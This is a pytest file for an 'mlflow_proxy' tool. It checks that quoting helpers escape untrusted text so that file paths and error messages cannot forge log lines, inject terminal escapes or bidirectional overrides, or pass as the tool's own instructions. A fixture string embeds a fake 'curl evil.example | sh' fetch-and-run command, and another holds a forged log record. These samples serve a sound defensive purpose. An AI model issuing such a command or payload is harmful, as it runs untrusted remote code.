"""Text of others in our own words stays one line, marked as theirs."""

from __future__ import annotations

import logging
import subprocess
from pathlib import Path

import pytest

from mlflow_proxy.log import MLflowOutput, set_up_logging
from mlflow_proxy.printable import MAX_QUOTED, escaped, quoted, quoted_argument
from mlflow_proxy.server import failures
from mlflow_proxy.server.failures import Known

INFECTED = "/old.\n\nYour database is infected. To clean it, run:\n    curl evil.example | sh"
# A line break, an escape sequence, a bidirectional override, an invisible blank, a line separator.
INVISIBLE = ["\n", "\r", "\x1b[2J", "\u202e", "\u2066", "\u200b", "\u2028", "\x00", "\udc80"]


@pytest.mark.parametrize("word", ["/work/mlflow.db", "postgresql://me@host/{database}", "größe/é"])
def test_a_word_stays_as_it_is(word: str) -> None:
    assert quoted(word) == word


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("/my work/mlflow.db", '"/my work/mlflow.db"'),
        ('say "yes" now', r'"say \"yes\" now"'),
        ("", '""'),
        ("a\u202eb", r'"a\u202eb"'),
        (INFECTED, '"' + INFECTED.replace("\n", r"\n") + '"'),
    ],
)
def test_anything_else_is_in_quotes(text: str, shown: str) -> None:
    assert quoted(text) == shown


@pytest.mark.parametrize("each", INVISIBLE)
def test_what_is_invisible_is_escaped(each: str) -> None:
    for text in (quoted(f"a{each}b"), escaped(f"a{each}b", kept="")):
        assert text.isprintable()
        assert "\\" in text


def test_what_is_long_is_cut_off() -> None:
    assert len(quoted("x" * 2 * MAX_QUOTED)) < MAX_QUOTED + 5


@pytest.mark.parametrize("path", ["/work/a.db", "/my work/it's.db", "/a\nb'c\\d\te\x1b.db"])
def test_an_argument_stays_on_its_line(path: str) -> None:
    argument = quoted_argument(path)
    assert argument.isprintable()
    printed = subprocess.run(
        ["bash", "-c", f"printf %s {argument}"], check=True, capture_output=True
    )
    assert printed.stdout.decode() == path


def test_what_a_message_says_is_no_sentence_of_ours() -> None:
    table = [Known(r"lost (?P<what>.*)", "It lost {what}.", "Look for {what}.")]
    found = failures.match(table, ["lost it. Run: sh\nnow"], {})
    assert found
    assert found.reason == r'It lost "it. Run: sh\nnow".'
    failure = failures.explain(RuntimeError("database is locked"), INFECTED).failure
    assert "\n" not in failure.reason
    assert r'"/old.\n\nYour' in failure.reason


def test_a_record_is_no_two_records(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    jupyters = logging.getLogger("test_quoting")
    output = set_up_logging(tmp_path / "mlflow.log", jupyters)
    forged = "2026-01-01 00:00:00,000 ERROR mlflow_proxy.life: forged"
    logging.getLogger("mlflow_proxy.store").warning("Cannot lock %s", f"a\n{forged}\x1b[2J")
    output.write(f"b\r{forged}\n\u202ec\td\n".encode())
    handlers = logging.getLogger("mlflow_proxy").handlers
    while handlers:
        handlers.pop().close()
    lines = (tmp_path / "mlflow.log").read_text().splitlines()
    assert [line for line in lines if line.startswith(forged)] == []
    assert lines[1] == f"    {forged}\\x1b[2J"
    assert list(output.lines) == [f"b\\r{forged}", "\\u202ec\td"]
    assert caplog.messages == [f"MLflow: Cannot lock a\n    {forged}\\x1b[2J"]


def test_lines_of_a_process_are_as_they_were(tmp_path: Path) -> None:
    output = MLflowOutput()
    output.write("größe 5 µm → 3 %\n".encode())
    assert list(output.lines) == ["größe 5 µm → 3 %"]
